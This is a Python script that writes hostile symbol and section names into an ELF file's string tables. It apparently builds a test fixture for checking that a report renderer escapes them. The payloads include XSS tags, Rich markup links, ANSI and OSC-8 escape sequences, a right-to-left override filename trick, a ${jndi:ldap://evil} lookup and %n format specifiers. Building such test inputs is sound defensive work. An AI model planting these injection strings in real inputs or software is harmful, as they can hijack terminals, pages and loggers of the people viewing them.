#!/usr/bin/env python3
"""Write hostile names over the placeholders in .strtab / .shstrtab (same length or shorter, NUL-padded), so the
ELF stays valid. Usage: patch.py IN OUT."""
import sys

# name index -> the bytes a reader of a report must see literally (or escaped), never interpreted
NAMES = {
    "01": b"[bold red]markup[/bold red]",
    "02": b"[link=http://evil.example/]click[/link]",
    "03": b"<script>alert(1)</script>",
    "04": b"<img src=x onerror=alert(1)>",
    "05": b"md|pipe|`tick`*star*_u_[x](http://evil.example/)",
    "06": b"\x1b[2J\x1b[31mansi_clear",
    "07": b"\x1b]8;;http://evil.example/\x1b\\osc8link\x1b]8;;\x1b\\",
    "08": b"line1\nline2\r\x08\x07bell",
    "09": b"\xff\xfe not utf8 \xc3",
    "10": b"\xe2\x80\xae rtl override gnp.exe",
    "11": b"{{7*7}}${jndi:ldap://evil}%s%n",
}
SECTION = b".[red]<b>|sect\x1b[5m"


def main() -> None:
    src, dst = sys.argv[1], sys.argv[2]
    data = bytearray(open(src, "rb").read())
    for n, new in NAMES.items():
        ph = b"NAME_" + n.encode() + b"_" + b"x" * 52
        i = data.find(ph + b"\0")
        assert i >= 0, f"placeholder {n} not found"
        assert len(new) <= len(ph), n
        data[i:i + len(ph)] = new + b"\0" * (len(ph) - len(new))
        assert data.find(ph) < 0, f"placeholder {n} found twice"
    ph = b".SECTNAME_" + b"x" * 40
    i = data.find(ph + b"\0")
    assert i >= 0, "section placeholder not found"
    data[i:i + len(ph)] = SECTION + b"\0" * (len(ph) - len(SECTION))
    open(dst, "wb").write(bytes(data))


if __name__ == "__main__":
    main()
